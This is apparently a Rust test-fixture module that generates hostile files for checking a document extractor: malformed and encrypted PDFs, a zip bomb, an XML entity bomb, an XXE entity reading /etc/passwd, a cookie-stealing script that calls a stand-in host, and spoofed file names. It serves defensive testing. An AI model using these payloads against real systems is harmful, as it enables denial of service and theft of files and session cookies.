//! Files that must not hurt: broken, locked, lying about themselves, or oddly named.
//!
//! Each says what must become of it: the code of the reason why it holds no text, or what must and must not come out
//! of it. The three locked files were made once with the command named in `daemon/fakes/corpus/hostile/README.md`; all
//! others are made here. The module refuses real malware: nothing in it does anything when opened.

use std::fmt::Write as _;
use std::io::Write as _;

use flate2::write::DeflateEncoder;
use flate2::{Compression, Crc};

use super::package::{Part, archive};
use super::pdf::{self, Page};
use super::render::Edition;
use super::source::{Format, Source};
use super::{Owner, docx};

const PDF: &str = Format::Pdf.media_type();
const DOCX: &str = Format::Docx.media_type();
const HTML: &str = Format::Html.media_type();
const TEXT: &str = Format::Text.media_type();
const MARKDOWN: &str = Format::Markdown.media_type();
const BINARY: &str = "application/octet-stream";

/// What the zip bomb promises: four hundred mebibytes in less than half of one.
const BOMB_MEBIBYTES: u32 = 400;
const MEBIBYTE: usize = 1 << 20;
const NESTED_ELEMENTS: usize = 50_000;
const ENTITY_LEVELS: u8 = 12;
/// The longest name that file systems and Nextcloud allow, in bytes.
const LONGEST_NAME: usize = 250;

/// One file and what must become of it.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct HostileFile {
    /// Folders and name.
    pub path: String,
    /// The content.
    pub bytes: Vec<u8>,
    /// The media type that a file server would guess from the name.
    pub media_type: &'static str,
    /// The code of the expected reason; none where the file must be read.
    pub reason: Option<&'static str>,
    /// Words that must come out.
    pub must_contain: Option<&'static str>,
    /// Words that must not come out.
    pub must_not_contain: Option<&'static str>,
    /// What is wrong with it.
    pub why: &'static str,
}

/// All of them, in a fixed order.
pub fn hostile() -> Vec<HostileFile> {
    let mut files = broken_pdfs();
    files.extend(broken_packages());
    files.extend(odd_texts());
    files.extend(odd_names());
    files
}

fn refused(
    name: &str,
    media_type: &'static str,
    reason: &'static str,
    why: &'static str,
    bytes: impl Into<Vec<u8>>,
) -> HostileFile {
    HostileFile {
        path: format!("Inbox/{name}"),
        bytes: bytes.into(),
        media_type,
        reason: Some(reason),
        must_contain: None,
        must_not_contain: None,
        why,
    }
}

fn readable(
    name: &str,
    media_type: &'static str,
    must_contain: &'static str,
    why: &'static str,
    bytes: impl Into<Vec<u8>>,
) -> HostileFile {
    HostileFile {
        path: format!("Inbox/{name}"),
        bytes: bytes.into(),
        media_type,
        reason: None,
        must_contain: Some(must_contain),
        must_not_contain: None,
        why,
    }
}

impl HostileFile {
    fn without(mut self, words: &'static str) -> Self {
        self.must_not_contain = Some(words);
        self
    }
}

fn broken_pdfs() -> Vec<HostileFile> {
    let whole = sound_pdf();
    let cut = whole.get(..whole.len().min(200)).unwrap_or_default();
    let blank = pdf::write("Blank", vec![Page::Drawn(pdf_writer::Content::new())]);
    let endless = "%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n\
                   << /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>\nendobj\n\
                   trailer\n<< /Size 3 /Root 1 0 R >>\nstartxref\n0\n%%EOF\n";
    vec![
        refused(
            "not a pdf.pdf",
            PDF,
            "malformed",
            "a text with the name of a PDF",
            "Hello, I am no PDF at all.\n",
        ),
        refused("garbage.pdf", PDF, "malformed", "the first line of a PDF, then noise", noise()),
        refused("truncated.pdf", PDF, "malformed", "cut off before the first page's text", cut),
        refused("endless tree.pdf", PDF, "malformed", "a page tree that contains itself", endless),
        refused(
            "locked.pdf",
            PDF,
            "encrypted",
            "needs a password, AES-256",
            include_bytes!("../../corpus/hostile/encrypted-aes256.pdf"),
        ),
        refused(
            "locked long ago.pdf",
            PDF,
            "encrypted",
            "needs a password, RC4 with 40 bits",
            include_bytes!("../../corpus/hostile/encrypted-rc4.pdf"),
        ),
        readable(
            "not for printing.pdf",
            PDF,
            "may be read by everyone but not printed",
            "encrypted with an empty user password, as print-protected files are",
            include_bytes!("../../corpus/hostile/restricted-aes256.pdf"),
        ),
        refused("blank.pdf", PDF, "no_text", "one empty page", blank),
        refused("empty.pdf", PDF, "empty", "zero bytes", []),
    ]
}

fn broken_packages() -> Vec<HostileFile> {
    let not_word = archive(&[("readme.txt", Part::deflate(b"An archive without a document."))]);
    let whole = docx::package_around(Part::deflate(document("A sound document.").as_bytes()));
    let cut = whole.get(..whole.len() / 2).unwrap_or_default();
    let entities = docx::package_around(Part::deflate(entity_bomb().as_bytes()));
    let foreign = "<?xml version=\"1.0\"?><!DOCTYPE w:document [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>";
    let foreign = docx::package_around(Part::deflate(format!("{foreign}{}", document("&x;")).as_bytes()));
    vec![
        refused(
            "bomb.docx",
            DOCX,
            "expands_too_far",
            "half a mebibyte that unpacks to four hundred",
            docx::package_around(bomb()),
        ),
        refused("entities.docx", DOCX, "malformed", "entities that multiply", entities).without("ha ha ha"),
        refused("foreign entity.docx", DOCX, "malformed", "an entity that names a local file", foreign)
            .without("root:"),
        refused("plain.docx", DOCX, "malformed", "a text with the name of a Word document", "Dear all,\n"),
        refused("archive.docx", DOCX, "malformed", "an archive without a document in it", not_word),
        refused("half.docx", DOCX, "malformed", "an archive that lost its second half", cut),
        refused("empty.docx", DOCX, "empty", "zero bytes", []),
        refused("recording.mp4", "video/mp4", "unsupported_type", "nothing reads films", film()),
        refused(
            "program.bin",
            BINARY,
            "unsupported_type",
            "bytes of no known kind",
            [0, 1, 2, 0xFF].repeat(200),
        ),
    ]
}

fn odd_texts() -> Vec<HostileFile> {
    let script = "<!DOCTYPE html><html><head><title>News</title><script>var stolen = document.cookie;</script>\
                  <style>p { color: red }</style></head><body onload=\"run()\"><p>The canteen closes at two.</p>\
                  <script>fetch('https://example.invalid/' + stolen)</script><noscript>Turn it on.</noscript></body>\
                  </html>";
    let nested = format!(
        "<html><body><p>Above the abyss.</p>{}<p>Below.</p>{}</body></html>",
        "<div>".repeat(NESTED_ELEMENTS),
        "</div>".repeat(NESTED_ELEMENTS)
    );
    vec![
        refused("empty.txt", TEXT, "empty", "zero bytes", []),
        refused("blanks.txt", TEXT, "no_text", "only blanks and line ends", " \n\t\r\n".repeat(50)),
        readable("script.html", HTML, "The canteen closes at two.", "a page with scripts", script)
            .without("document.cookie"),
        readable("nested.html", HTML, "Above the abyss.", "elements nested fifty thousand deep", nested),
        readable(
            "zeros.txt",
            TEXT,
            "the delivery comes on Friday",
            "a text with a few zero bytes, as some exports have",
            format!("Note:\0 the delivery comes on Friday\0.\n{}", "Signed at the desk.\n".repeat(20)),
        )
        .without("\0"),
        readable(
            "not utf-8.md",
            MARKDOWN,
            "The window stays open.",
            "bytes that are not UTF-8",
            [b"# K\xFChlschrank\n\nThe window stays open. ".as_slice(), &[0xC3, 0x28, 0xFE, 0xFF, b'\n']]
                .concat(),
        ),
        readable(
            "one line.txt",
            TEXT,
            "the end of the line",
            "two million characters without a line end",
            format!("{}the end of the line", "word ".repeat(400_000)),
        ),
    ]
}

fn odd_names() -> Vec<HostileFile> {
    let names: [(&str, &str); 8] = [
        ("100% #1 & 50+50=100;a,b.txt", "characters that mean something in a URL"),
        ("what?.txt", "a question mark"),
        ("%2e%2e%2fetc%2fpasswd.txt", "percent signs that must not be decoded twice"),
        ("Re\u{301}sume\u{301} A\u{30A}ngstro\u{308}m.txt", "accents as separate characters (NFD)"),
        ("\u{1FA7A} rounds \u{1F468}\u{200D}\u{2695}\u{FE0F}.txt", "emoji with a joiner"),
        (
            "\u{05EA}\u{05E8}\u{05D5}\u{05E4}\u{05D5}\u{05EA} \u{202E}txt.exe\u{202C}.txt",
            "right-to-left override",
        ),
        ("  two  blanks .txt", "blanks at the start, twice in the middle, before the ending"),
        ("quote ' double \" and <tag>.txt", "quotes and angle brackets"),
    ];
    let mut files: Vec<HostileFile> = names
        .into_iter()
        .map(|(name, why)| {
            readable(name, TEXT, "The name is odd", why, "The name is odd, the text is not.\n")
        })
        .collect();
    let long = format!("{}.txt", "n".repeat(LONGEST_NAME - ".txt".len()));
    let why = "a name as long as names may be";
    files.push(readable(&long, TEXT, "The name is odd", why, "The name is odd, the text is not.\n"));
    files
}

/// A PDF with nothing wrong.
fn sound_pdf() -> Vec<u8> {
    let source = Source {
        title: "Sound".to_owned(),
        path: String::new(),
        code: "NC-H-000".to_owned(),
        format: Format::Pdf,
        owner: Owner::Shared,
        facts: Vec::new(),
        blocks: Vec::new(),
    };
    let edition = Edition { version: "1.0".to_owned(), reviewed: "1 January 2026".to_owned() };
    pdf::render(&source, &edition, pdf::Columns::One).bytes
}

/// The first line of a PDF and bytes that are nothing.
fn noise() -> Vec<u8> {
    let mut sequence = super::sequence::Sequence::new(7);
    let mut bytes = b"%PDF-1.7\n".to_vec();
    bytes.extend((0..512).flat_map(|_| sequence.next().to_le_bytes()));
    bytes
}

/// The start of a film and bytes that are nothing.
fn film() -> Vec<u8> {
    let mut bytes = b"\0\0\0\x20ftypisom\0\0\x02\0isomiso2mp41".to_vec();
    bytes.extend(noise());
    bytes
}

/// The main part of a Word document with one paragraph.
fn document(text: &str) -> String {
    format!("{DOCUMENT_START}{text}{DOCUMENT_END}")
}

const DOCUMENT_START: &str = "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">\
                              <w:body><w:p><w:r><w:t>";
const DOCUMENT_END: &str = "</w:t></w:r></w:p></w:body></w:document>";

/// Each entity stands for ten of the one before.
fn entity_bomb() -> String {
    let mut doctype = String::from("<?xml version=\"1.0\"?><!DOCTYPE w:document [<!ENTITY a0 \"ha ha ha \">");
    for level in 1..=ENTITY_LEVELS {
        let inner = format!("&a{};", level - 1).repeat(10);
        let _ = write!(doctype, "<!ENTITY a{level} \"{inner}\">");
    }
    format!("{doctype}]>{}", document(&format!("&a{ENTITY_LEVELS};")))
}

/// A part that promises far more than it weighs. One mebibyte is deflated once and flushed to a byte boundary with a
/// fresh window, so that the same bytes can stand four hundred times; the checksum is joined in the same way.
fn bomb() -> Part {
    let filler = vec![b' '; MEBIBYTE];
    let (block, filler_sum) = flushed_block(&filler);
    let (start, mut checksum) = flushed_block(DOCUMENT_START.as_bytes());
    let end = Part::deflate(DOCUMENT_END.as_bytes());
    let mut deflated = start;
    for _ in 0..BOMB_MEBIBYTES {
        deflated.extend(&block);
        checksum.combine(&filler_sum);
    }
    let mut end_sum = Crc::new();
    end_sum.update(DOCUMENT_END.as_bytes());
    checksum.combine(&end_sum);
    deflated.extend(end.deflated);
    Part { deflated, checksum: checksum.sum(), size: checksum.amount() }
}

/// Deflated bytes that end on a byte boundary and do not refer to what comes before.
fn flushed_block(content: &[u8]) -> (Vec<u8>, Crc) {
    let mut encoder = DeflateEncoder::new(Vec::new(), Compression::default());
    // Writing into memory does not fail; a test unpacks the result.
    drop(encoder.write_all(content));
    drop(encoder.flush());
    let mut crc = Crc::new();
    crc.update(content);
    (encoder.get_ref().clone(), crc)
}
